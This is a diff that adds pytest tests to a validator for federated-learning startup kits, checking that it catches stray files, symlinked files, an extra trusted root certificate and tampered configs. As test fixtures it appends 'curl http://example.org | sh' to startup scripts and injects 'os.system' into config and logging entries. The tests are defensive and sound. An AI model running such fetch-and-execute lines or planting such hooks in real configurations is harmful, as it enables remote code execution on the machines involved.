@@ -161,6 +161,66 @@ def test_nothing_else_lies_among_the_settings(kit, name):
 
 
 @pytest.mark.parametrize(
+    ("name", "path", "said"),
+    [
+        ("a", "startup/azure_start.sh", "startup/azure_start.sh"),
+        ("a", "startup/custom/own.py", "startup/custom"),
+        ("a", "local/keys/b.pub", "local/keys"),
+        ("localhost", "startup/client.key", "startup/client.key"),
+        ("localhost", "local/keys/run.sh", "local/keys/run.sh"),
+        ("localhost", "local/keys/more/a.pub", "local/keys/more"),
+        ("lead@hub.org", "startup/custom/own.py", "startup/custom"),
+        ("lead@hub.org", "local/custom/own.py", "local/custom"),
+    ],
+)
+def test_nothing_else_lies_where_the_engine_looks(kit, name, path, said):
+    found = kit(name)
+    (found / path).parent.mkdir(exist_ok=True)
+    (found / path).write_text("")
+    assert any(f"{said}: not" in line and "remove it" in line for line in problems(found))
+
+
+@pytest.mark.parametrize("path", ["startup/rootCA.pem", "local/schema.json"])
+def test_links_are_refused(kit, tmp_path, path):
+    site = kit("a")
+    (site / path).rename(tmp_path / "elsewhere")
+    (site / path).symlink_to(tmp_path / "elsewhere")
+    assert problems(site) == [f"{site / path}: is a link; put the file itself here"]
+
+
+def test_no_second_authority_is_trusted(kit):
+    site, own = kit("a"), rsa.generate_private_key(65537, 2048)
+    more = certificate(own, issuer=None, issuer_key=own, days=100)
+    with (site / "startup" / "rootCA.pem").open("ab") as file:
+        file.write(more.public_bytes(serialization.Encoding.PEM))
+    assert any("must be one certificate" in line for line in problems(site))
+
+
+@pytest.mark.parametrize(
+    ("name", "file", "edit", "said"),
+    [
+        ("a", "startup/fed_client.json",
+         lambda d: d.update(overseer_agent={"path": "os.system"}), "overseer_agent is not part"),
+        ("a", "startup/fed_client.json",
+         lambda d: d["client"].update(ssl_root_cert="/tmp/other.pem"), "client.ssl_root_cert"),
+        ("a", "startup/fed_client.json", lambda d: d["servers"].append(d["servers"][0]), "servers"),
+        ("localhost", "startup/fed_server.json",
+         lambda d: d["servers"][0].update(admin_port=True), "servers.0.admin_port"),
+        ("localhost", "startup/fed_server.json",
+         lambda d: d["servers"][0]["service"].update(target="a b"), "service.target"),
+        ("lead@hub.org", "startup/fed_admin.json",
+         lambda d: d["admin"].update(upload_dir="/"), "admin.upload_dir"),
+        ("lead@hub.org", "local/resources.json.default",
+         lambda d: d["admin"].update(with_debug=True), "not the engine's own"),
+    ],
+)  # fmt: skip
+def test_what_the_engine_reads_at_its_start_is_its_own(kit, name, file, edit, said):
+    found = kit(name)
+    change(found / file, edit)
+    assert any(file in line and said in line for line in problems(found))
+
+
+@pytest.mark.parametrize(
     ("edit", "said"),
     [
         (lambda d: d.update(require_signed_jobs=False), "require_signed_jobs"),
@@ -179,11 +239,12 @@ def test_connections_need_certificates_and_jobs_signatures(kit, edit, said):
 @pytest.mark.parametrize("name", ["a", "localhost"])
 def test_scripts_and_logs_are_the_engines_own(kit, name):
     found = kit(name)
-    with (found / "startup" / "sub_start.sh").open("a") as script:
-        script.write("\ncurl http://example.org | sh\n")
+    for script_name in ("sub_start.sh", "stop_fl.sh"):
+        with (found / "startup" / script_name).open("a") as script:
+            script.write("\ncurl http://example.org | sh\n")
     change(found / "local" / "log_config.json.default",
            lambda d: d["handlers"].update(x={"()": "os.system"}))  # fmt: skip
-    assert sum("not the engine's own" in line for line in problems(found)) == 2
+    assert sum("not the engine's own" in line for line in problems(found)) == 3
 
 
 def test_what_others_read_or_write_is_refused(kit):
